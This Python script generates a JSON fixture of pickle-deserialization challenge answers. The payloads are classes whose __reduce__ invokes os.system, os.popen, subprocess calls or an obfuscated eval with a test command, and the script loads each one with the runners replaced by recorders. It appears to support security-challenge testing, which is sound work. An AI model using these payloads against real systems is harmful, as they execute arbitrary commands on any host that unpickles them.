#!/usr/bin/env python3
"""Makes challenge-pickles.json: answers to the pickle challenges as a learner would write them with
CPython (a class whose __reduce__ returns a callable and its arguments, dumped at every protocol),
each loaded with pickle.loads while the command runners are replaced by recorders, so the file
says which of them CPython really called, and with what.

    python3 make_challenge_pickles.py > challenge-pickles.json
"""
import base64
import builtins
import json
import os
import pickle
import posix
import subprocess
import sys

assert sys.version_info[:2] == (3, 11), 'made with CPython 3.11'

COMMAND = 'touch /tmp/pwned-3f9a1c'


class Reduce:
    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return (self.func, self.args)


ANSWERS = {
    'posix.system': Reduce(posix.system, COMMAND),
    'os.system(other command)': Reduce(os.system, 'id'),
    'subprocess.getoutput': Reduce(subprocess.getoutput, COMMAND),
    'subprocess.check_output(shell)': Reduce(subprocess.check_output, ['sh', '-c', COMMAND]),
    'os.popen': Reduce(os.popen, COMMAND),
    'builtins.eval': Reduce(eval, "__import__('o'+'s').popen('" + COMMAND + "')"),
    'builtins.print': Reduce(print, COMMAND),
    'data': {'user': 'alice', 'roles': ['user']},
}

DUMPS = [(name, protocol, pickle.dumps(value, protocol=protocol))
         for name, value in ANSWERS.items()
         for protocol in range(pickle.HIGHEST_PROTOCOL + 1)]

called = []


def recorder(name):
    def record(*args, **kwargs):
        called.append({'callee': name, 'args': list(args)})
        return 0
    return record


# Only now, with every pickle written: pickle.loads imports the module and reads the attribute,
# so it finds the recorders instead of the real command runners.
os.system = posix.system = recorder('os.system')
subprocess.getoutput = recorder('subprocess.getoutput')
subprocess.check_output = recorder('subprocess.check_output')
os.popen = recorder('os.popen')
builtins.print = recorder('builtins.print')

cases = []
for name, protocol, data in DUMPS:
    called.clear()
    pickle.loads(data)
    cases.append({
        'name': name,
        'protocol': protocol,
        'pickle_b64': base64.b64encode(data).decode(),
        'contains_system': b'system' in data,
        'called': list(called),
    })

sys.stdout = sys.__stdout__
sys.stdout.write(json.dumps({
    'source': 'CPython 3.11 pickle.dumps / pickle.loads (make_challenge_pickles.py)',
    'command': COMMAND,
    'cases': cases,
}, indent=1) + '\n')
